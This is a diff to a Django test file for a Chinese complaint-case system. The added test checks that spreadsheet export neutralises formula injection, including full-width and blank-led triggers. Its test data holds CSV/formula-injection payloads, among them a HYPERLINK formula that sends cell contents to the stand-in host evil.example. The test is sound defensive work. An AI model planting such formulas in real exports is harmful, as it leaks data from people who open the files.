@@ -17,6 +17,7 @@ from django.utils import timezone
 from eco12369.audit.models import AuditEntry
 from eco12369.cases import services
 from eco12369.cases.models import Case
+from eco12369.orgs.models import Agency
 
 from .conftest import MONDAY, advance
 from .test_queues import numbers_on
@@ -224,6 +225,40 @@ def test_export_keeps_hostile_text_as_text_and_the_screens_order(client, heping,
     hostile = next(c for c in sheet["F"] if c.value == HOSTILE)
     assert hostile.data_type == "s" and hostile.quotePrefix  # text, never a formula
     assert "河西区" not in {c.value for c in sheet["C"]}  # scoped to the user's district
+
+
+# What a Chinese input method types: the full-width forms of the triggers. Each is exported as the ASCII "="
+# is: a text cell with the quote prefix.
+FULL_WIDTH_HOSTILE = [
+    '＝HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "＋86 某化工厂",
+    "－2+3",
+    "＠SUM(1)",
+]
+# A trigger after blanks (the full-width space U+3000 here) is one too. Intake strips the texts it takes, so
+# this one is a name staff keep elsewhere: the owning bureau's.
+BLANK_LED = '\u3000＝HYPERLINK("http://evil.example","点我")'
+
+
+def test_export_neutralises_full_width_and_blank_led_formulas_as_it_does_ascii(
+    client, heping, make_case
+) -> None:
+    parties = [HOSTILE, *FULL_WIDTH_HOSTILE, "天津某化工有限公司"]
+    for party in parties:
+        make_case("和平区", reported_party=party)
+    Agency.objects.filter(pk=heping.operator.agency_id).update(name=BLANK_LED)
+    client.force_login(heping.operator)
+    response = client.get(reverse("workbench:search"), {"format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert (sheet["F1"].value, sheet["N1"].value) == ("被举报对象", "责任机构")
+    cells = {c.value: c for c in sheet["F"][1:]}
+    assert set(cells) == set(parties)  # every text kept character for character
+    for party in [HOSTILE, *FULL_WIDTH_HOSTILE]:
+        assert (cells[party].data_type, cells[party].quotePrefix) == ("s", True), party
+    assert not cells["天津某化工有限公司"].quotePrefix  # plain text is left as it is
+    agencies = sheet["N"][1:]
+    assert len(agencies) == len(parties)
+    assert all((c.value, c.data_type, c.quotePrefix) == (BLANK_LED, "s", True) for c in agencies)
 
 
 def test_queue_export_is_the_queue(client, heping, desk) -> None:
